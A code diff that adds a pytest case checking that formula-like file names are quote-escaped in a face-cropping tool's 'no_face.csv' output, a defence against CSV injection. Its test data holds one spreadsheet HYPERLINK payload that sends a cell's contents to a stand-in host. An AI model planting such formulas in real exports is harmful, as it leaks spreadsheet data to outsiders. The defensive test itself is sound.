@@ -228,6 +228,23 @@ def test_crop_folder(tmp_path, astronaut_jpeg, coffee_jpeg):
     assert log[0] == "path,reason" and {line.split(",")[0] for line in log[1:]} == {"page.jpg", "sub/coffee.jpg"}
 
 
+def test_a_file_name_never_becomes_a_spreadsheet_formula_in_no_face_csv(tmp_path):
+    """A downloaded set's file named like a formula is listed with a leading quote: a spreadsheet shows it as
+    text, never evaluates it."""
+    import csv
+
+    src = tmp_path / "in"
+    src.mkdir()
+    names = ['=HYPERLINK("https:x.example?d="&A3,"open").jpg', "+1.jpg", "-2.jpg", "@SUM(A1).jpg", "plain.jpg"]
+    for name in names:
+        (src / name).write_bytes(b"not an image")
+    crop_folder(src, tmp_path / "out", 64, FacesConfig(batch_size=4))
+    with (tmp_path / "out" / "no_face.csv").open(newline="") as f:
+        cells = [row[0] for row in list(csv.reader(f))[1:]]
+    assert sorted(cells) == sorted("'" + n if n[0] in "=+-@" else n for n in names)
+    assert all(not c.startswith(("=", "+", "-", "@")) for c in cells)
+
+
 # ------------------------------------------------------------------------------------------ the Ray stage
 def test_stage_run_writes_rows_and_reruns_idempotently(ray_session, data_root, astronaut_jpeg, coffee_jpeg, bad_inputs):
     cfg = load_config(None, overrides={"data_root": str(data_root), "faces.num_actors": 1, "faces.batch_size": 2})
